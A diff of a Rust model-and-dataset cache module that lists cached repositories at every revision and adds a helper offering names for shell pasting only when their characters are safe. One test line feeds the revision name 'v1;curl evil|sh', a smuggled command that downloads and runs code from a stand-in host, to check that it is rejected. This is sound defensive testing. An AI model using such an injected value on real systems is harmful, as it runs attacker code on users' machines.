@@ -63,12 +63,29 @@ impl Cache {
         Ok(Repo { cache: self.clone(), kind, id: id.into(), revision: revision.into() })
     }
 
-    /// Repositories that have a revision here, models first, by name. One whose fetching has not ended is left out.
-    pub fn list(&self) -> Vec<Cached> {
+    /// Repositories that are here at each revision that has a name here, and at each commit that has none; whole or not.
+    pub fn repos(&self) -> Vec<Repo> {
         let entries = std::fs::read_dir(&self.root).into_iter().flatten().flatten();
-        let mut all: Vec<Cached> =
-            entries.filter_map(|e| Cached::of(self, &e.file_name().into_string().ok()?)).collect();
-        all.sort_by(|a, b| (a.kind, &a.id).cmp(&(b.kind, &b.id)));
+        entries.filter_map(|e| Some(self.revisions(&e.file_name().into_string().ok()?))).flatten().collect()
+    }
+
+    /// The revisions of the repository that lies in this folder of the cache.
+    fn revisions(&self, folder: &str) -> Vec<Repo> {
+        let (kind, name) = match folder.split_once("--") {
+            Some(("models", name)) => (Kind::Model, name),
+            Some(("datasets", name)) => (Kind::Dataset, name),
+            _ => return Vec::new(),
+        };
+        let id = name.replacen("--", "/", 1);
+        let at = |revision: &str| self.repo(kind, &id, revision).ok();
+        let Some(main) = at(MAIN) else { return Vec::new() };
+        let names = walk(&main.folder().join("refs")).into_iter().map(|(name, _)| name);
+        let mut all: Vec<Repo> = names.filter_map(|name| at(&name)).filter(|r| r.fetched().is_some()).collect();
+        let named: Vec<String> = all.iter().filter_map(Repo::commit).collect();
+        let snapshots = std::fs::read_dir(main.folder().join("snapshots")).into_iter().flatten().flatten();
+        let commits = snapshots.filter_map(|e| e.file_name().into_string().ok());
+        let nameless = commits.filter(|c| is_hex(c, 40) && !named.contains(c));
+        all.extend(nameless.filter_map(|commit| at(&commit)).filter(|r| r.fetched().is_some()));
         all
     }
 }
@@ -85,6 +102,11 @@ pub fn home() -> PathBuf {
 /// `ID` or `ID@REVISION`, as a model is named in a spec.
 pub fn split(name: &str) -> (&str, &str) {
     name.split_once('@').unwrap_or((name, MAIN))
+}
+
+/// The same way back.
+pub fn join(id: &str, revision: &str) -> String {
+    if revision == MAIN { id.into() } else { format!("{id}@{revision}") }
 }
 
 /// The commit whose snapshot a folder is.
@@ -176,66 +198,42 @@ impl Repo {
         Some(text.trim().to_string()).filter(|commit| is_hex(commit, 40))
     }
 
+    /// `ID` or `ID@REVISION`, as a spec names it.
+    pub fn name(&self) -> String {
+        join(&self.id, &self.revision)
+    }
+
+    /// The same where it can be offered for pasting into a shell: a branch may have any character in its name.
+    pub fn pasted(&self) -> Option<String> {
+        let plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-' | '/' | '@');
+        Some(self.name()).filter(|name| name.chars().all(plain))
+    }
+
     /// The folder of the files at the revision, where they were fetched.
     pub fn fetched(&self) -> Option<PathBuf> {
         Some(self.snapshot(&self.commit()?)).filter(|folder| folder.is_dir())
     }
 }
 
-/// A repository that is here.
-#[derive(Clone, Debug, PartialEq, Eq)]
-pub struct Cached {
-    pub kind: Kind,
-    pub id: String,
-    /// The commit of its main revision, or of the only one.
-    pub commit: String,
-    /// Files at that commit, by name, with their bytes.
-    pub files: Vec<(String, u64)>,
-}
-
-impl Cached {
-    fn of(cache: &Cache, folder: &str) -> Option<Self> {
-        let (kind, name) = match folder.split_once("--")? {
-            ("models", name) => (Kind::Model, name),
-            ("datasets", name) => (Kind::Dataset, name),
-            _ => return None,
-        };
-        let id = name.replacen("--", "/", 1);
-        let repo = cache.repo(kind, &id, MAIN).ok()?;
-        let only = || {
-            let mut all = std::fs::read_dir(repo.folder().join("snapshots")).ok()?.flatten();
-            let first = all.next()?.file_name().into_string().ok()?;
-            all.next().is_none().then_some(first).filter(|c| is_hex(c, 40))
-        };
-        let named = repo.commit();
-        let commit = named.clone().or_else(only)?;
-        let mut files = Vec::new();
-        walk(&repo.snapshot(&commit), "", &mut files);
-        files.sort();
-        // What was fetched by its commit has no name to tell that it is whole; weights come last.
-        let weights = |(name, _): &(String, u64)| name.ends_with(".safetensors") || name.ends_with(".bin");
-        let whole = named.is_some() || kind == Kind::Dataset || files.iter().any(weights);
-        (whole && !files.is_empty()).then_some(Self { kind, id, commit, files })
-    }
-
-    pub fn bytes(&self) -> u64 {
-        self.files.iter().map(|(_, bytes)| bytes).sum()
-    }
-}
-
-/// Files below a folder, two folders deep at most.
-fn walk(folder: &Path, prefix: &str, found: &mut Vec<(String, u64)>) {
-    for entry in std::fs::read_dir(folder).into_iter().flatten().flatten() {
-        let Ok(name) = entry.file_name().into_string() else { continue };
-        // Follows the link to the content; one that leads nowhere is no file.
-        let Ok(about) = std::fs::metadata(entry.path()) else { continue };
-        let name = format!("{prefix}{name}");
-        if about.is_file() {
-            found.push((name, about.len()));
-        } else if prefix.matches('/').count() < 2 {
-            walk(&entry.path(), &format!("{name}/"), found);
+/// Files below a folder with their bytes, by name; two folders deep at most.
+pub fn walk(folder: &Path) -> Vec<(String, u64)> {
+    fn below(folder: &Path, prefix: &str, found: &mut Vec<(String, u64)>) {
+        for entry in std::fs::read_dir(folder).into_iter().flatten().flatten() {
+            let Ok(name) = entry.file_name().into_string() else { continue };
+            // Follows the link to the content; one that leads nowhere is no file.
+            let Ok(about) = std::fs::metadata(entry.path()) else { continue };
+            let name = format!("{prefix}{name}");
+            if about.is_file() {
+                found.push((name, about.len()));
+            } else if prefix.matches('/').count() < 2 {
+                below(&entry.path(), &format!("{name}/"), found);
+            }
         }
     }
+    let mut found = Vec::new();
+    below(folder, "", &mut found);
+    found.sort();
+    found
 }
 
 #[cfg(test)]
@@ -266,5 +264,8 @@ mod tests {
         assert_eq!(repo.lock("e"), Path::new("/c/.locks/datasets--nyu-mll--glue/e.lock"));
         assert_eq!(commit_of(&repo.snapshot(&commit)), Some(commit));
         assert_eq!(split("a/b@v1"), ("a/b", "v1"));
+        let named = |revision: &str| Cache::at("/c".into()).repo(Kind::Model, "o/m", revision).expect("a name");
+        assert_eq!([MAIN, "v1/x"].map(|r| named(r).pasted()), [Some("o/m".into()), Some("o/m@v1/x".into())]);
+        assert_eq!(named("v1;curl evil|sh").pasted(), None, "no shell gets that");
     }
 }
